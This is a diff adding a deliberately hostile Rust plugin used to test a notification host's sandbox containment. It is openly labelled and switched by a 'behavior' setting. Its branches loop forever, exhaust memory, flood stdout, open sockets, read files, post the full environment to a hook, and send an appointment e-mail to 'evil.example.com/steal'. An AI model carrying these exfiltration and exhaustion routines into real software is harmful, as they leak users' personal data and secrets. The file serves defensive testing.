@@ -1,1 +1,196 @@
+//! A channel plugin that misbehaves on purpose, for the host's containment
+//! tests. Setting `behavior` picks what `render` does:
+//!
+//! | behavior       | render                                                     |
+//! |----------------|------------------------------------------------------------|
+//! | `ok` (default) | one POST to `{base_url}/hook` with the event id as body    |
+//! | `loop`         | spins forever                                              |
+//! | `hog`          | allocates 1 MiB chunks and keeps them until memory runs out |
+//! | `trap`         | panics (so does `classify`)                                |
+//! | `stdout-flood` | writes 8 MiB to stdout, then renders as `ok`               |
+//! | `socket`       | connects to setting `target`; refused → rejection          |
+//! | `read-file`    | reads setting `path`; refused → rejection                  |
+//! | `read-env`     | reads the environment; empty → rejection                   |
+//! | `foreign-host` | POSTs the appointment e-mail to `evil.example.com`         |
+//! | `set-auth`     | sets its own `Authorization` header                        |
+//!
+//! A sandbox escape that works does not fail here: it renders a request
+//! carrying what it got (`CONNECTED`, the file, the environment), and the test
+//! that expected a refusal fails on it.
 
+#![deny(unsafe_code)]
+
+use std::hint::black_box;
+use std::io::Write as _;
+
+use bindings::notify::channel::types::{
+    CallContext, Delivered, Disposition, Event, Header, HttpRequest, HttpResponse, PluginInfo,
+    Setting,
+};
+
+// The generated glue moves values across the component boundary with raw
+// pointers; `unsafe` is allowed here and nowhere else in the crate.
+#[allow(unsafe_code)]
+mod bindings {
+    wit_bindgen::generate!({ world: "channel", path: "../../../wit" });
+
+    use super::Hostile;
+    export!(Hostile);
+}
+
+const BEHAVIORS: &[&str] = &[
+    "ok",
+    "loop",
+    "hog",
+    "trap",
+    "stdout-flood",
+    "socket",
+    "read-file",
+    "read-env",
+    "foreign-host",
+    "set-auth",
+];
+
+/// Nothing resolves under `.invalid` (RFC 2606): an unconfigured `ok` channel
+/// cannot reach anyone.
+const DEFAULT_BASE_URL: &str = "https://example.invalid";
+
+/// Chosen to exceed any sane per-call output limit by a wide margin, in
+/// writes the size of a typical pipe buffer.
+const FLOOD_BYTES: usize = 8 * 1024 * 1024;
+const FLOOD_WRITE_BYTES: usize = 64 * 1024;
+
+const HOG_CHUNK_BYTES: usize = 1024 * 1024;
+
+struct Hostile;
+
+fn setting<'a>(settings: &'a [Setting], key: &str) -> Option<&'a str> {
+    settings
+        .iter()
+        .rev()
+        .find(|s| s.key == key)
+        .map(|s| s.value.as_str())
+}
+
+fn post(url: String, headers: Vec<Header>, body: impl Into<Vec<u8>>) -> Vec<HttpRequest> {
+    vec![HttpRequest {
+        method: "POST".to_string(),
+        url,
+        headers,
+        body: body.into(),
+    }]
+}
+
+impl bindings::Guest for Hostile {
+    fn describe() -> PluginInfo {
+        PluginInfo {
+            name: "hostile".to_string(),
+            version: env!("CARGO_PKG_VERSION").to_string(),
+            required_fields: Vec::new(),
+            known_settings: ["behavior", "base_url", "target", "path"]
+                .map(String::from)
+                .to_vec(),
+        }
+    }
+
+    fn check_settings(settings: Vec<Setting>) -> Result<(), Vec<String>> {
+        match setting(&settings, "behavior") {
+            Some(b) if !BEHAVIORS.contains(&b) => Err(vec![format!(
+                "setting `behavior` must be one of {}, not `{b}`",
+                BEHAVIORS.join(", ")
+            )]),
+            _ => Ok(()),
+        }
+    }
+
+    fn render(event: Event, settings: Vec<Setting>) -> Result<Vec<HttpRequest>, String> {
+        let base = setting(&settings, "base_url")
+            .unwrap_or(DEFAULT_BASE_URL)
+            .trim_end_matches('/');
+        let hook = format!("{base}/hook");
+        match setting(&settings, "behavior").unwrap_or("ok") {
+            "ok" => Ok(post(hook, Vec::new(), event.event_id)),
+            "loop" => {
+                let mut spins = 0u64;
+                loop {
+                    spins = black_box(spins.wrapping_add(1));
+                }
+            }
+            "hog" => {
+                let mut kept: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    let mut chunk = vec![0u8; HOG_CHUNK_BYTES];
+                    // Touch every page so the memory is really committed.
+                    chunk.iter_mut().step_by(4096).for_each(|b| *b = 1);
+                    kept.push(black_box(chunk));
+                }
+            }
+            "trap" => panic!("hostile plugin: deliberate trap"),
+            "stdout-flood" => {
+                let chunk = vec![b'x'; FLOOD_WRITE_BYTES];
+                let mut out = std::io::stdout().lock();
+                for _ in 0..FLOOD_BYTES / FLOOD_WRITE_BYTES {
+                    // Keep writing even if the host refuses some: the point
+                    // is to try.
+                    let _ = out.write_all(&chunk);
+                }
+                let _ = out.flush();
+                Ok(post(hook, Vec::new(), event.event_id))
+            }
+            "socket" => {
+                let target = setting(&settings, "target")
+                    .ok_or("socket refused: setting `target` is missing")?;
+                match std::net::TcpStream::connect(target) {
+                    Ok(_) => Ok(post(hook, Vec::new(), "CONNECTED")),
+                    Err(e) => Err(format!("socket refused: {e}")),
+                }
+            }
+            "read-file" => {
+                let path =
+                    setting(&settings, "path").ok_or("file refused: setting `path` is missing")?;
+                match std::fs::read_to_string(path) {
+                    Ok(content) => Ok(post(hook, Vec::new(), content)),
+                    Err(e) => Err(format!("file refused: {e}")),
+                }
+            }
+            "read-env" => {
+                let vars: Vec<(String, String)> = std::env::vars().collect();
+                if vars.is_empty() {
+                    return Err("environment is empty".to_string());
+                }
+                let listing: String = vars.iter().map(|(k, v)| format!("{k}={v}\n")).collect();
+                Ok(post(hook, Vec::new(), listing))
+            }
+            "foreign-host" => Ok(post(
+                "https://evil.example.com/steal".to_string(),
+                Vec::new(),
+                event.appointment.email.unwrap_or_default(),
+            )),
+            "set-auth" => Ok(post(
+                hook,
+                vec![Header {
+                    name: "Authorization".to_string(),
+                    value: "Basic Zm9vOmJhcg==".to_string(),
+                }],
+                event.event_id,
+            )),
+            other => Err(format!("unknown behavior `{other}`")),
+        }
+    }
+
+    fn classify(
+        response: HttpResponse,
+        settings: Vec<Setting>,
+        _context: CallContext,
+    ) -> Disposition {
+        if setting(&settings, "behavior") == Some("trap") {
+            panic!("hostile plugin: deliberate trap");
+        }
+        match response.status {
+            200..=299 => Disposition::Delivered(Delivered {
+                provider_message_id: None,
+            }),
+            status => Disposition::Permanent(format!("hostile: HTTP {status}")),
+        }
+    }
+}
